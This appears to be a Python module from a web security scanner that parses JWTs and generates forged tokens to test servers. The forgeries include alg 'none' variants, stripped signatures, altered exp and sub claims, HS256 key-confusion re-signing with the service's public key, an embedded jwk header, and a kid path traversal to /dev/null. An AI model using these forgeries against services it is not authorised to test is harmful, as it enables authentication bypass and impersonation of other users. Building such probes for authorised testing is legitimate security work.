"""JWTs as data for the jwt probe: parse a compact token, and build the tokens it sends.

Everything here is pure (no requests). The forged tokens, by family:

- `signature_forgeries`: the payload changed under the original signature (a later `exp`,
  another `sub`), the signature removed with the header kept (`h.p.`), a two-part token
  (`h.p`), and `alg` set to `none` in four letter cases, with and without the trailing dot;
- `key_confusion_forgeries`: an RS/ES/PS/EdDSA token re-signed HS256 with the bytes of the
  service's public key (PEM, PEM without its final newline, PKCS#1 PEM for RSA, DER);
- `header_forgeries`: a token signed by a key the scan made, with that key's public JWK in the
  `jwk` header; a `kid` naming `/dev/null` (by path traversal and absolute), signed HS256 with
  an empty key.

There is no `jku` or `x5u` forgery: a server vulnerable to them fetches the key from the URL in
the header, so the forgery needs a host outside the target that serves the scan's key, and
the scan never reaches outside its scope.

Well-formed tokens are assembled by hand (the header and payload as given, so nothing but the
part under test changes); PyJWT reads JWKs and makes the RS256 signature of the `jwk` forgery.
HMAC signatures are computed with `hmac` directly, because PyJWT refuses PEM-looking HMAC keys.
"""

from __future__ import annotations

import base64
import binascii
import hmac
import json
import re
import time
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any, TypeGuard

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed448, ed25519, rsa
from jwt import PyJWK
from jwt.algorithms import RSAAlgorithm

DAY = 86_400
HMAC_HASHES = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}
NONE_VARIANTS = ("none", "None", "NONE", "nOnE")
# The file `kid` points at; /dev/null reads as empty on every Unix, so its key is b"".
EMPTY_FILE_KIDS = (
    ("kid-empty-file", "../../../../../../../dev/null", "a path climbing to /dev/null"),
    ("kid-empty-file-absolute", "/dev/null", "the absolute path /dev/null"),
)
# A JWKS may list many keys; each key costs four requests, so only the likeliest are used.
MAX_CONFUSION_KEYS = 4
_PART = re.compile(r"[A-Za-z0-9_-]*")
_ASYMMETRIC = re.compile(r"(?:RS|PS|ES)(?:256|384|512)|ES256K|EdDSA|Ed25519|Ed448")
_KEY_TYPES: dict[str, tuple[type, ...]] = {
    "RS": (rsa.RSAPublicKey,),
    "PS": (rsa.RSAPublicKey,),
    "ES": (ec.EllipticCurvePublicKey,),
    "Ed": (ed25519.Ed25519PublicKey, ed448.Ed448PublicKey),
}
_PublicKeyTypes = (
    rsa.RSAPublicKey | ec.EllipticCurvePublicKey | ed25519.Ed25519PublicKey | ed448.Ed448PublicKey
)


@dataclass(frozen=True)
class Jwt:
    """A compact JWS as it was captured.

    Attributes:
        raw: The compact token as given.
        header: The decoded JOSE header (a JSON object).
        claims: The decoded payload (a JSON object).
        header_b64: The first part exactly as in `raw`.
        payload_b64: The second part exactly as in `raw`.
        signature_b64: The third part exactly as in `raw` (empty for an unsigned token).
    """

    raw: str
    header: dict[str, Any]
    claims: dict[str, Any]
    header_b64: str
    payload_b64: str
    signature_b64: str

    @property
    def alg(self) -> str:
        """The header's `alg` ("" when absent or not a string)."""
        alg = self.header.get("alg")
        return alg if isinstance(alg, str) else ""

    @property
    def signing_input(self) -> bytes:
        """What the signature covers: `header_b64.payload_b64` in ASCII."""
        return f"{self.header_b64}.{self.payload_b64}".encode("ascii")

    @property
    def signature(self) -> bytes:
        """The decoded signature bytes."""
        return b64url_decode(self.signature_b64) or b""


@dataclass(frozen=True)
class Forgery:
    """A token built to test one way a server could accept what it should refuse.

    Attributes:
        name: Stable part of the check id (`payload-changed-exp`, `alg-none-nOnE-dot`).
        token: The compact token to send.
        how: One sentence for the report on how the token was built.
        holds_secret: True when the token carries the original signature or one made with a
            real key, so the report redacts it; False for tokens anyone could write.
    """

    name: str
    token: str
    how: str
    holds_secret: bool


@dataclass(frozen=True)
class PublicKey:
    """A public key of the service, for the key-confusion forgeries.

    Attributes:
        kid: The key id the JWKS gave it, if any.
        pem: The key as SubjectPublicKeyInfo PEM.
        source: Where the key came from (a URL), for the report.
    """

    kid: str | None
    pem: bytes
    source: str


# -- parsing and encoding -----------------------------------------------------------------------


def parse(token: str) -> Jwt | None:
    """The token as a `Jwt`, or None for anything but a three-part JWS whose header and
    payload are JSON objects. An empty signature is accepted (an unsigned token). Never
    raises."""
    if not isinstance(token, str) or token.count(".") != 2:
        return None
    header_b64, payload_b64, signature_b64 = token.split(".")
    if not all(_PART.fullmatch(part) for part in (header_b64, payload_b64, signature_b64)):
        return None
    header = _json_object(header_b64)
    claims = _json_object(payload_b64)
    if header is None or claims is None or b64url_decode(signature_b64) is None:
        return None
    return Jwt(token, header, claims, header_b64, payload_b64, signature_b64)


def _json_object(part: str) -> dict[str, Any] | None:
    """A base64url part decoded as a UTF-8 JSON object, or None."""
    data = b64url_decode(part)
    if data is None:
        return None
    try:
        value = json.loads(data.decode("utf-8"))
    except (ValueError, RecursionError):
        return None
    return value if isinstance(value, dict) else None


def b64url_decode(text: str) -> bytes | None:
    """Unpadded (or padded) base64url decoded, or None when it is not base64url."""
    try:
        return base64.b64decode(text + "=" * (-len(text) % 4), altchars=b"-_", validate=True)
    except (binascii.Error, ValueError):
        return None


def b64url(data: bytes) -> str:
    """base64url without padding, as JWS uses it."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def encode_json(value: dict[str, Any]) -> str:
    """A JSON object, compact, as a base64url part."""
    return b64url(json.dumps(value, separators=(",", ":")).encode("utf-8"))


def flip_signature_bit(token: Jwt) -> str:
    """The token with the lowest bit of its signature's last byte flipped (in the decoded
    bytes, so the signature always differs). An empty signature has no bit to flip: it
    becomes the single byte 0x01."""
    signature = bytearray(token.signature or b"\x00")
    signature[-1] ^= 0x01
    return f"{token.header_b64}.{token.payload_b64}.{b64url(bytes(signature))}"


# -- signing ------------------------------------------------------------------------------------


def sign_hmac(
    header: dict[str, Any], claims: dict[str, Any], key: bytes, alg: str = "HS256"
) -> str:
    """A token with `header` (its `alg` set to `alg`) and `claims`, signed HMAC with `key`.
    `alg` is HS256, HS384 or HS512; anything else is a ValueError."""
    return _hmac_token(encode_json({**header, "alg": alg}), encode_json(claims), key, alg)


def _hmac_token(header_b64: str, payload_b64: str, key: bytes, alg: str) -> str:
    digest = HMAC_HASHES.get(alg)
    if digest is None:
        raise ValueError(f"not an HMAC algorithm: {alg!r}")
    signing_input = f"{header_b64}.{payload_b64}"
    signature = hmac.digest(key, signing_input.encode("ascii"), digest)
    return f"{signing_input}.{b64url(signature)}"


def mint(token: Jwt, secret: str | bytes, *, claims: dict[str, Any] | None = None) -> str:
    """A correctly signed token with the token's header and `claims` (default: its own), for a
    token signed HS256/384/512 whose secret is known. Other algorithms are a ValueError."""
    key = secret.encode("utf-8") if isinstance(secret, str) else secret
    chosen = token.claims if claims is None else claims
    return sign_hmac(token.header, chosen, key, token.alg)


# -- signature forgeries ------------------------------------------------------------------------


def signature_forgeries(
    token: Jwt, *, other_sub: str | None = None, now: float | None = None
) -> list[Forgery]:
    """Tokens a server that does not verify signatures would accept: the payload changed
    under the original signature (`exp` one day later, or added a day from `now`; `sub` set
    to `other_sub` or a derived value when the token has one), the signature stripped, a
    two-part token, and `alg` none in four letter cases with and without the final dot."""
    head = f"{token.header_b64}.{token.payload_b64}"
    forgeries = [_exp_later(token, time.time() if now is None else now)]
    if "sub" in token.claims:
        forgeries.append(_sub_changed(token, other_sub))
    forgeries.append(
        Forgery(
            "signature-stripped",
            f"{head}.",
            "the token with its signature removed and the header and final dot kept",
            holds_secret=False,
        )
    )
    forgeries.append(
        Forgery("two-part", head, "the token's header and payload only, no signature part", False)
    )
    forgeries.extend(_alg_none(token))
    return forgeries


def _exp_later(token: Jwt, now: float) -> Forgery:
    exp = token.claims.get("exp")
    if _is_number(exp):
        later, how = exp + DAY, "the token with exp moved 1 day later"
    else:
        later, how = int(now) + DAY, "the token with an exp 1 day from now added"
    claims = {**token.claims, "exp": later}
    forged = f"{token.header_b64}.{encode_json(claims)}.{token.signature_b64}"
    return Forgery("payload-changed-exp", forged, f"{how}, original signature kept", True)


def _sub_changed(token: Jwt, other_sub: str | None) -> Forgery:
    sub = token.claims["sub"]
    new_sub: Any = other_sub if other_sub is not None and other_sub != sub else _derived(sub)
    claims = {**token.claims, "sub": new_sub}
    forged = f"{token.header_b64}.{encode_json(claims)}.{token.signature_b64}"
    how = f"the token with sub changed from {sub!r} to {new_sub!r}, original signature kept"
    return Forgery("payload-changed-sub", forged, how, holds_secret=True)


def _derived(sub: Any) -> Any:
    """Another subject of the same shape: a number plus one, or the last letter or digit
    (of the local part, for an e-mail address) moved on by one, hex staying hex."""
    if _is_number(sub):
        return sub + 1
    text = str(sub)
    if text.isdigit():
        return str(int(text) + 1).zfill(len(text))
    end = text.find("@") if "@" in text else len(text)
    for index in range(end - 1, -1, -1):
        if text[index].isascii() and text[index].isalnum():
            return text[:index] + _next_char(text[index]) + text[index + 1 :]
    return text + "2"


def _next_char(char: str) -> str:
    for ring in ("0123456789", "abcdef", "ABCDEF", "ghijklmnopqrstuvwxyz", "GHIJKLMNOPQRSTUVWXYZ"):
        if char in ring:
            return ring[(ring.index(char) + 1) % len(ring)]
    return char


def _alg_none(token: Jwt) -> list[Forgery]:
    forgeries = []
    for variant in NONE_VARIANTS:
        head = f"{encode_json({**token.header, 'alg': variant})}.{token.payload_b64}"
        base = f"the token with alg set to {variant!r} and no signature"
        forgeries.append(
            Forgery(f"alg-none-{variant}-dot", f"{head}.", f"{base}, final dot kept", False)
        )
        forgeries.append(Forgery(f"alg-none-{variant}", head, f"{base}, two parts", False))
    return forgeries


def _is_number(value: Any) -> TypeGuard[int | float]:
    return isinstance(value, int | float) and not isinstance(value, bool)


# -- key confusion ------------------------------------------------------------------------------


def public_keys_from_jwks(document: bytes, *, source: str = "") -> list[PublicKey]:
    """The RSA, EC and OKP signing keys of a JWKS (or of a single JWK), as PEM. Keys marked
    for encryption, symmetric keys and anything unreadable are left out; junk gives []."""
    try:
        data = json.loads(document)
    except (ValueError, RecursionError, TypeError):
        return []
    entries = data.get("keys", [data]) if isinstance(data, dict) else None
    if not isinstance(entries, list):
        return []
    keys = []
    for entry in entries:
        pem = _entry_pem(entry)
        if pem is not None:
            kid = entry.get("kid")
            keys.append(PublicKey(kid if isinstance(kid, str) else None, pem, source))
    return keys


def _entry_pem(entry: Any) -> bytes | None:
    """One JWK's public key as SubjectPublicKeyInfo PEM, or None."""
    if not isinstance(entry, dict) or entry.get("kty") not in ("RSA", "EC", "OKP"):
        return None
    if entry.get("use") == "enc":
        return None
    # The key type decides the algorithm; an entry's own `alg` may name an encryption scheme.
    data = {name: value for name, value in entry.items() if name != "alg"}
    try:
        key = PyJWK(data).key
        public = key.public_key() if hasattr(key, "private_bytes") else key
        if not isinstance(public, _PublicKeyTypes):
            return None
        return public.public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
    except Exception:
        # Hostile JWK fields may trip any error inside PyJWT or cryptography: no key then.
        return None


def key_confusion_forgeries(token: Jwt, public_keys: Sequence[PublicKey]) -> list[Forgery]:
    """For an RS/PS/ES/EdDSA token: HS256 tokens (header kept, `kid` included, payload as
    given) signed with each fitting public key's bytes as the HMAC secret. A key whose `kid`
    matches the token's is used alone; otherwise keys of the algorithm's type, at most
    `MAX_CONFUSION_KEYS`. Other tokens give []."""
    keys = _fitting_keys(token, public_keys)
    header_b64 = encode_json({**token.header, "alg": "HS256"})
    forgeries = []
    for number, key in enumerate(keys, start=1):
        suffix = f"-{number}" if len(keys) > 1 else ""
        label = f"kid {key.kid!r}" if key.kid else f"key {number}"
        for form, material, described in _key_forms(key.pem):
            how = (
                f"the token re-signed HS256 with the public key ({label} from "
                f"{key.source or 'the JWKS'}) {described} as the HMAC secret"
            )
            signed = _hmac_token(header_b64, token.payload_b64, material, "HS256")
            forgeries.append(Forgery(f"key-confusion-{form}{suffix}", signed, how, True))
    return forgeries


def is_asymmetric(alg: str) -> bool:
    """True for the algorithms signed by a private key and checked with a public one (RS*,
    PS*, ES*, EdDSA): the tokens key confusion applies to."""
    return bool(_ASYMMETRIC.fullmatch(alg))


def _fitting_keys(token: Jwt, public_keys: Sequence[PublicKey]) -> list[PublicKey]:
    types = _KEY_TYPES.get(token.alg[:2]) if is_asymmetric(token.alg) else None
    if types is None:
        return []
    kid = token.header.get("kid")
    same_kid = [key for key in public_keys if kid is not None and key.kid == kid]
    if same_kid:
        return same_kid[:1]
    fitting = [key for key in public_keys if isinstance(_load(key.pem), types)]
    return fitting[:MAX_CONFUSION_KEYS]


def _load(pem: bytes) -> object:
    try:
        return serialization.load_pem_public_key(pem)
    except (ValueError, TypeError):
        return None


def _key_forms(pem: bytes) -> list[tuple[str, bytes, str]]:
    """The byte forms a server may hold its public key in: (name, bytes, description)."""
    key = _load(pem)
    if key is None:
        return []
    spki = pem if pem.endswith(b"\n") else pem + b"\n"
    forms = [
        ("pem", spki, "as PEM with its final newline"),
        ("pem-no-newline", spki.rstrip(b"\n"), "as PEM without the final newline"),
    ]
    if isinstance(key, rsa.RSAPublicKey):
        pkcs1 = key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)
        forms.append(("pkcs1-pem", pkcs1, "as PKCS#1 PEM (BEGIN RSA PUBLIC KEY)"))
    if isinstance(key, _PublicKeyTypes):
        der = key.public_bytes(
            serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
        )
        forms.append(("der", der, "as DER bytes"))
    return forms


# -- header tricks ------------------------------------------------------------------------------


def header_forgeries(token: Jwt, *, signing_key: rsa.RSAPrivateKey | None = None) -> list[Forgery]:
    """The `jwk` forgery (signed RS256 by `signing_key`, by default a fresh 2048-bit RSA key,
    its public JWK in the header) and the two `kid` forgeries naming /dev/null, signed HS256
    with an empty key. The payload is kept as given."""
    return [_jwk_embedded(token, signing_key), *_kid_empty_file(token)]


def _jwk_embedded(token: Jwt, signing_key: rsa.RSAPrivateKey | None) -> Forgery:
    key = signing_key or rsa.generate_private_key(public_exponent=65537, key_size=2048)
    jwk: dict[str, Any] = dict(RSAAlgorithm.to_jwk(key.public_key(), as_dict=True))
    kid = token.header.get("kid")
    if kid is not None:
        jwk["kid"] = kid
    header_b64 = encode_json({**token.header, "alg": "RS256", "jwk": jwk})
    signing_input = f"{header_b64}.{token.payload_b64}"
    signature = RSAAlgorithm(RSAAlgorithm.SHA256).sign(signing_input.encode("ascii"), key)
    how = (
        "the token re-signed RS256 with a key the scan made, its public key in the jwk "
        "header: a server that trusts an embedded key accepts anyone's token"
    )
    return Forgery("jwk-embedded", f"{signing_input}.{b64url(signature)}", how, True)


def _kid_empty_file(token: Jwt) -> list[Forgery]:
    forgeries = []
    for name, kid, described in EMPTY_FILE_KIDS:
        header_b64 = encode_json({**token.header, "alg": "HS256", "kid": kid})
        how = (
            f"the token re-signed HS256 with an empty key, kid naming {described}: a server "
            "that reads its key from the file kid names verifies it with an empty secret"
        )
        signed = _hmac_token(header_b64, token.payload_b64, b"", "HS256")
        forgeries.append(Forgery(name, signed, how, holds_secret=False))
    return forgeries
